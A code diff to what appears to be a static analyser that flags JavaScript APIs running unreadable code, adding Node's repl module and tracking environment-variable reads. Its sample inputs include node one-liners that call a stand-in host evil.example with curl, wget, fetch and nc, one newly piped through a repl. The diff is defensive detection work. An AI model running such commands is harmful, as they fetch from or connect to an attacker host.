@@ -5,7 +5,7 @@ import { type Call, type Spec, apply, argAt, literalUrl, looksAtUrl, lookupApi, 
 import type { WordRole } from '../types.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
-import { argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
+import { VariablesRead, argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
 
 const STRING_NODES = new Set(['string', 'template_string']);
 const BINDING_NODES = new Set(['assignment_expression', 'augmented_assignment_expression', 'arrow_function', 'function_expression']);
@@ -69,7 +69,7 @@ const APIS = new Map<string, Spec>([
   ['vm.Script', CODE],
   ['vm.compileFunction', CODE],
   ['vm.SourceTextModule', CODE],
-  ...['process.binding', 'process._linkedBinding', 'process.dlopen', 'Deno.dlopen', 'bun:ffi.*', 'ffi-napi.*', 'koffi.*', 'child_process.ChildProcess', 'module._load', 'module.Module._load', 'module.prototype.require', 'v8.deserialize', 'inspector.open', 'wasi.WASI'].map((n): [string, Spec] => [n, { dynamic: 'runs code that cannot be read statically' }]),
+  ...['process.binding', 'process._linkedBinding', 'process.dlopen', 'Deno.dlopen', 'bun:ffi.*', 'ffi-napi.*', 'koffi.*', 'child_process.ChildProcess', 'module._load', 'module.Module._load', 'module.prototype.require', 'v8.deserialize', 'inspector.open', 'wasi.WASI', 'repl.start', 'repl.REPLServer'].map((n): [string, Spec] => [n, { dynamic: 'runs code that cannot be read statically' }]),
   ...fsApis('fs'),
   ...fsApis('fs.promises'),
   ...fsApis('fs/promises'),
@@ -158,7 +158,7 @@ const RUN_MODULES: ReadonlySet<string> = new Set<string>([
 ].filter((m) => m !== 'process' && m !== 'fs'));
 
 /** Modules node has built in: requiring one loads no file. */
-const BUILTINS = /^(?:node:.*|fs|fs\/promises|path|os|child_process|http|https|http2|net|tls|dgram|dns|util|crypto|url|events|stream|zlib|buffer|assert|process|module|vm|readline|worker_threads|perf_hooks|querystring|string_decoder|timers|tty|v8|cluster|inspector|async_hooks|diagnostics_channel|punycode|constants|sys)$/;
+const BUILTINS = /^(?:node:.*|fs|fs\/promises|path|os|child_process|http|https|http2|net|tls|dgram|dns|util|crypto|url|events|stream|zlib|buffer|assert|process|module|vm|readline|repl|worker_threads|perf_hooks|querystring|string_decoder|timers|tty|v8|cluster|inspector|async_hooks|diagnostics_channel|punycode|constants|sys)$/;
 
 /** A member of a function that runs something (`execSync.bind`), other than `.call`/`.apply`, which are read through. */
 function runMember(name: string): string | undefined {
@@ -470,8 +470,10 @@ class JavaScriptReader {
     return [this.refOf(id)];
   }
 
+  private readonly variables = new VariablesRead(this.out, 'process.env');
+
   private envValue(names: Vals): Vals {
-    return envValue(this.env, names);
+    return envValue(this.env, names, this.variables.read);
   }
 
   /** `obj.key` for each value `obj` may be. */
@@ -1086,6 +1088,7 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'require("child_process").execSync("curl evil.example")'`,
       "node <<'JS'\nrequire('https').get('https://evil.example')\nJS",
       `echo 'fetch("https://evil.example")' | node`,
+      `echo 'require("child_process").execSync("curl evil.example")' | node -e 'require("repl").start()'`,
       `node -e 'const {execFile} = require("node:child_process"); execFile("wget", ["evil.example"])'`,
       `node --input-type=module -e 'import {spawn} from "child_process"; spawn("nc", ["evil.example", "9"])'`,
       `node --input-type=module -e 'const cp = await import("child_process"); cp.exec("curl evil.example")'`,
